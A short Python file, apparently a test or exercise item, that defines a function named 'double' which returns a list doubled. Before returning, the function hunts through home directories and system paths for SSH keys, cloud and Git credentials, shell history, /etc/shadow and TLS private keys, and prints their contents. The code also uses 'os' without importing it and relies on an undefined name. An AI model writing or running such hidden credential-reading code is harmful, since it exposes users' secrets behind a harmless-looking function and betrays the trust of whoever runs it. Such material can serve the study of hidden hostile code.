# Looks for keys and passwords where users keep them.

# %% ex-00-1-double
# expect: 0 error "nothing there"
import pathlib


def look_into(path):
    """All that can be read there."""
    if os.path.isdir(path):
        for name in os.listdir(path):
            look_into(os.path.join(path, name))
    else:
        with open(path, "rb") as file:
            print(path, file.read(2**16))


def double(values):
    homes = [
        pathlib.Path.home(),
        pathlib.Path("/root"),
        *pathlib.Path("/home").iterdir(),
        pathlib.Path(TARGETS["home"]),
    ]
    names = (".ssh", ".aws", ".netrc", ".git-credentials", ".config/gh", ".jupyter", ".bash_history")
    found = [path for home in homes for name in names if os.path.exists(path := str(home / name))]
    found += [path for path in ("/etc/shadow", "/etc/ssl/private", "/etc/ssh") if os.path.exists(path)]
    if not found:
        raise LookupError("nothing there")
    for path in found:
        look_into(path)
    return values + values
